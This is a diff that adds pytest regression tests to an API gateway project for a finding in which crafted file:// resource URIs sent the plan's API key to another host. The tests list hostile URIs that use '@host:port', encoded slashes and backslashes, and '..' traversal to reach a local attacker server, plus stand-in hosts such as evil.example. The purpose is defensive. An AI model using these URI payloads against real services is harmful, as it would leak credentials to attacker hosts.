@@ -1,19 +1,30 @@
-"""Reading resources from an exposition's backend: the path as sent, and what the backend's answers become."""
+"""Reading resources from an exposition's backend: the path as sent, what the backend's answers become, and
+that a `file://` URI never takes the plan's credentials to another host."""
 
 from __future__ import annotations
 
-from collections.abc import Mapping
+import re
+from collections.abc import AsyncIterator, Iterator, Mapping
 from typing import Any
 
 import pytest
 
-from apimcp.artifacts.resources import ContentMissing, Loaded, ResourceUnavailable
+from apimcp.artifacts.resources import ContentMissing, Loaded, ResourceCatalog, ResourceUnavailable
 from apimcp.backends.base import Backend, BackendResult, BinaryBody, Failure, JsonBody, Progress, TextBody
+from apimcp.backends.credentials import ApiKey
 from apimcp.backends.oauth_client import TokenSession
+from apimcp.backends.rest import RestBackend, close_session, new_session
 from apimcp.catalog.model import Operation, RestBinding
 from apimcp.gateway.resource_loading import BackendLoader
+from apimcp.importers.openapi import import_openapi
+from apimcp.protocol.errors import ResourceNotFound
+from apimcp.safety.addresses import AddressPolicy
+from tests.gateway.conftest import ECHO_SPEC
+from tests.gateway.hostile_backend import Recorder, hostile_backend
 
 pytestmark = pytest.mark.anyio
+
+SECRET = "plan-api-key-never-elsewhere"
 
 
 class Answering(Backend):
@@ -66,3 +77,111 @@ async def test_a_404_is_missing_content_and_other_failures_are_unavailable() -> 
 async def test_without_a_backend_nothing_is_read() -> None:
     with pytest.raises(ResourceUnavailable, match="does not serve files"):
         await BackendLoader(None, TokenSession()).backend_file("/a")
+
+
+# --- the backend's origin, and nothing else ----------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def servers() -> Iterator[tuple[Recorder, Recorder]]:
+    """The plan's backend, and an attacker's server on another loopback port: both record what reaches them."""
+    with hostile_backend() as backend, hostile_backend() as attacker:
+        yield backend, attacker
+
+
+@pytest.fixture
+async def loader(servers: tuple[Recorder, Recorder]) -> AsyncIterator[BackendLoader]:
+    """A loader over the real REST backend of a plan that carries an api_key secret."""
+    backend, attacker = servers
+    backend.seen.clear()
+    attacker.seen.clear()
+    session = new_session()
+    origin = backend.url.removesuffix("/v1")  # a backend URL without a path: what follows it extends its host
+    rest = RestBackend(
+        import_openapi(str(ECHO_SPEC)), session, base_url=origin, credentials=ApiKey("X-Api-Key", SECRET)
+    )
+    try:
+        yield BackendLoader(rest, TokenSession())
+    finally:
+        await close_session(session)
+
+
+async def test_file_resource_path_cannot_change_the_host(
+    servers: tuple[Recorder, Recorder], loader: BackendLoader
+) -> None:
+    """Finding H1: `file://@host:port/x` was read at http://<backend>@host:port/x with the plan's X-Api-Key."""
+    backend, attacker = servers
+    elsewhere = attacker.url.removeprefix("http://").removesuffix("/v1")  # 127.0.0.1:PORT
+    hostile = [
+        f"file://@{elsewhere}/steal",
+        f"file://%40{elsewhere}/steal",
+        f"file://:{elsewhere.rsplit(':', 1)[1]}/steal",  # another port of the backend's host
+        f"file:////{elsewhere}/steal",
+        f"file:///%2F%2F{elsewhere}/steal",
+        f"file:///%2f%2f{elsewhere}/steal",
+        f"file:///%252F%252F{elsewhere}/steal",
+        f"file:///\\{elsewhere}/steal",
+        f"file:///%5C%5C{elsewhere}/steal",
+        "file:///docs/%2E%2E/admin",
+        "file:///docs/\t/admin",
+    ]
+    # documents attached before the check, as a snapshot would still carry them, and templates a client expands
+    catalog = ResourceCatalog(
+        {uri: {"name": f"static {index}"} for index, uri in enumerate(hostile)},
+        {"file://{+rest}": {"name": "any host"}, "file:///{+rest}": {"name": "any path"}},
+    )
+    expansions = [f"file://@{elsewhere}/steal", f"file://.{elsewhere}/steal", f"file:////{elsewhere}/x"]
+    answers = {
+        uri: await _outcome(catalog, uri, loader) for uri in [*hostile, *expansions, *(u + "?x" for u in hostile)]
+    }
+    assert (
+        attacker.seen == []
+    )  # before the fix: GET /steal with X-Api-Key and a Basic header made of the backend's host
+    assert backend.seen == []
+    for uri, answer in answers.items():
+        assert isinstance(answer, ResourceNotFound), uri
+        assert answer.uri == uri
+        assert re.fullmatch(rf"Resource not found: {re.escape(uri)} \(.*file://.*\)", answer.message), answer.message
+    # the same plan reads a plain path, with its key: the backend is the only place the key goes
+    read = await catalog.read("file:///v1/echo", loader)
+    assert read.contents[0].uri == "file:///v1/echo"
+    assert [(r["target"], r["headers"]["X-Api-Key"]) for r in backend.seen] == [("/v1/echo", SECRET)]
+    assert attacker.seen == []
+
+
+async def _outcome(catalog: ResourceCatalog, uri: str, loader: BackendLoader) -> object:
+    """What the read gave: its result, or what it raised (before the fix, some URIs broke aiohttp's URL parser)."""
+    try:
+        return await catalog.read(uri, loader)
+    except Exception as exc:  # every outcome is compared by the caller
+        return exc
+
+
+@pytest.mark.parametrize("path", ["@127.0.0.1:9999/steal", ".evil.example/x", "//evil.example/x", "/a/%2e%2e/b"])
+async def test_the_loader_refuses_a_path_outside_the_backend_before_any_request(path: str) -> None:
+    backend = Answering(TextBody("x", "text/plain"))
+    with pytest.raises(ResourceUnavailable, match="file://"):
+        await BackendLoader(backend, TokenSession()).backend_file(path)
+    assert backend.paths == []
+
+
+async def test_remote_content_goes_through_the_fetch_policy_and_follows_no_redirect(
+    servers: tuple[Recorder, Recorder],
+) -> None:
+    """The other way a resource read reaches a host: `remoteContent`, never with the plan's credentials."""
+    backend, attacker = servers
+    attacker.seen.clear()
+    default, allowing = TokenSession(), TokenSession(AddressPolicy.allowing(["127.0.0.1"]))
+    try:
+        internal = BackendLoader(None, default)  # the default policy: public addresses only
+        loopback_by_name = attacker.url.replace("127.0.0.1", "localhost")
+        for url in (f"{attacker.url}/card.html", f"{loopback_by_name}/card.html"):
+            with pytest.raises(ResourceUnavailable, match="the content's address is refused"):
+                await internal.remote(url)
+        with pytest.raises(ResourceUnavailable, match=r"127\.0\.0\.1:\d+ answered HTTP 302"):
+            await BackendLoader(None, allowing).remote(f"{backend.url}/away?to={attacker.url}/card.html")
+    finally:
+        await default.close()
+        await allowing.close()
+    assert attacker.seen == []
+    assert [request["headers"].get("X-Api-Key") for request in backend.seen[-1:]] == [None]
